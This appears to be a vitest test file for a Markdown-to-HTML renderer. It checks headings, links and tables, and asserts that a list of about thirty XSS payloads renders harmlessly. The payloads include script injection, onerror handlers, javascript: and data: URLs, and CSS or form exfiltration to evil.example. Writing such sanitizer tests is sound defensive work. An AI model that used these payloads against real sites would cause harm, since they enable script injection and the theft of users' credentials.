import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { renderMarkdown, renderMessage } from './render-markdown.ts';

const htmlOf = (text: string): string => renderMarkdown(`# Title\n\n${text}`)?.html ?? '';

describe('a page’s Markdown', () => {
  it('becomes its title, its parts and their places', () => {
    const rendered = renderMarkdown(
      '# House *rules*\n\n## Round robins {#round-robin}\n\nText\n\n### Two of **three**\n\n## Text\n\n## Text\n\n## กติกา',
    );
    expect(rendered?.title).toBe('House rules');
    expect(rendered?.headings).toEqual([
      { level: 2, anchor: 'round-robin', text: 'Round robins' },
      { level: 3, anchor: 'two-of-three', text: 'Two of three' },
      { level: 2, anchor: 'text', text: 'Text' },
      { level: 2, anchor: 'text-2', text: 'Text' },
      { level: 2, anchor: 'กติกา', text: 'กติกา' },
    ]);
    expect(rendered?.html).toContain('<h2 id="content-round-robin">Round robins</h2>');
    expect(rendered?.html).not.toContain('House');
  });

  it.each(['', 'Text', '## Rules', '#', 'Text\n\n# Rules'])('is refused without a title: %j', (text) => {
    expect(renderMarkdown(text)).toBeNull();
  });

  it('keeps tables, lists and emphasis', () => {
    const html = htmlOf('| a | b |\n| --- | --- |\n| 1 | **2** |\n\n3. three\n4. *four*');
    expect(html).toContain('<td><strong>2</strong></td>');
    expect(html).toContain('<ol start="3">');
  });

  it('links to pages of the site after the hash, to places in itself, and to other sites in a new tab', () => {
    expect(htmlOf('[p](/privacy) [r](#parlay) [m](mailto:a@b.example)')).toContain(
      '<a href="#/privacy">p</a> <a href="#parlay">r</a> <a href="mailto:a@b.example">m</a>',
    );
    expect(htmlOf('[w](https://other.example/x)')).toContain(
      '<a href="https://other.example/x" rel="noopener noreferrer" target="_blank">w</a>',
    );
    expect(htmlOf('[w](//other.example/x)')).not.toContain('other.example');
  });
});

/** For each of these inputs, the output must not run, load, style or ask for anything. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<style>* { background: url(https://evil.example) }</style>',
  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<h2 id="root" class="x" onclick="alert(1)" data-x="1">x</h2>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/png;base64,iVBORw0KGgo=)',
  '[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[x](blob:https://book.example/1)',
  '![x](https://evil.example/pixel.png)',
  '![x](x "onerror=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '`<script>alert(1)</script>`',
  '## x" onmouseover="alert(1) {#x"onmouseover="alert(1)}',
];

const LIVING = [
  'script',
  'style',
  'img',
  'svg',
  'math',
  'iframe',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'base',
  'link',
  'meta',
  'noscript',
  'template',
  'video',
  'audio',
].join(',');

const HARMLESS = new Set(['href', 'rel', 'target', 'start', 'id']);

/** Finds the parts of a page's HTML that could do anything in a browser. */
const findLife = (html: string): string[] => {
  const { document } = new JSDOM(`<main>${html}</main>`, { url: 'https://book.example/' }).window;
  const elements = [...document.querySelectorAll(`main :is(${LIVING})`)].map(({ outerHTML }) => outerHTML);
  const attributes = [...document.querySelectorAll('main *')]
    .flatMap((element) => [...element.attributes])
    .filter(
      ({ name, value }) =>
        !HARMLESS.has(name) ||
        (name === 'id' && !value.startsWith('content-')) ||
        (name === 'href' && !/^(https:|mailto:|#)/.test(value)),
    );
  return [...elements, ...attributes.map(({ name, value }) => `${name}=${value}`)];
};

describe('a malicious text', () => {
  it.each(HOSTILE)('does no harm: %s', (text) => {
    expect(findLife(htmlOf(text))).toEqual([]);
    expect(findLife(renderMessage(text))).toEqual([]);
    expect(findLife(htmlOf(`- > ${text}\n\n| a |\n| --- |\n| ${text.replaceAll('|', '')} |`))).toEqual([]);
  });

  it.each(['> ', '[', '*a ', '- ', '![a](', '`'])(
    'is rendered in reasonable time, however often it repeats %j',
    (part) => {
      expect(findLife(htmlOf(part.repeat(Math.floor(39_000 / part.length))))).toEqual([]);
    },
  );
});
